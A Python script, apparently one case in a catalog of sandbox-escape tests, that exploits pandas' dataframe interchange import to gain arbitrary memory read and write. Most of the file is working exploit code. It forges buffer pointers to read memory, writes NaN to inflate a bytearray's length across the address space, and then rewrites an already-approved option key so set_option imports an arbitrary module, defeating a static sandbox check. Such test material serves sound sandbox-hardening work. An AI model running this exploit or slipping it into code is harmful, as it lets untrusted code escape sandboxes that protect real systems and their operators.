# family: data_native
# reaches: native_code
# layer: static
# static: missed
# pandas.api.interchange.from_dataframe trusts the __dataframe__ protocol's buffers: a .ptr the
# program gives is cast to a ctypes pointer and read as an array (a read at any address), and with
# the USE_SENTINEL null kind set_nulls writes NaN into that array in place (a write at any
# address). NaN over a bytearray's length makes it span the address space above its buffer; the
# display.* key SBX206 judged is rewritten before set_option reads it: the value is imported.
import numpy as np
import pandas as pd
from pandas.api.interchange import from_dataframe


class Buffer:
    def __init__(self, ptr, size):
        self.ptr = ptr
        self.bufsize = size


class Column:
    offset = 0

    def __init__(self, ptr, nbytes, dtype, nulls):
        self.ptr, self.nbytes, self.dtype, self.describe_null = ptr, nbytes, dtype, nulls

    def size(self):
        return self.nbytes // (self.dtype[1] // 8)

    def get_buffers(self):
        return {"data": (Buffer(self.ptr, self.nbytes), self.dtype), "validity": None, "offsets": None}


class Exchange:
    metadata = {}

    def __init__(self, column):
        self.column = column

    def __dataframe__(self, nan_as_null=False, allow_copy=True):
        return self

    def column_names(self):
        return ["v"]

    def get_column_by_name(self, name):
        return self.column

    def get_chunks(self, n_chunks=None):
        yield self


def read_u64(addr):
    col = Column(addr, 8, (1, 64, "L", "="), (0, None))
    return int(from_dataframe(Exchange(col))["v"][0])


def fill_nan(addr, current):
    # USE_SENTINEL: where the float64 at addr equals its current bits, set_nulls writes None (NaN)
    # into the array over addr, in place.
    sentinel = np.array([current], dtype=np.int64).view(np.float64)[0]
    from_dataframe(Exchange(Column(addr, 8, (2, 64, "g", "="), (2, sentinel))))


window = bytearray(4096)
start = read_u64(id(window) + 40)
fill_nan(id(window) + 16, len(window))
print("window length now", hex(len(window)))

key = "display.colheader_justify"
at = id(key) + 48 - start
new = b"plotting.backend|zzzzzzzz"
window[at:at + len(new)] = new
try:
    pd.set_option(key, "_curses")
except Exception as exc:
    print("option refused:", type(exc).__name__)
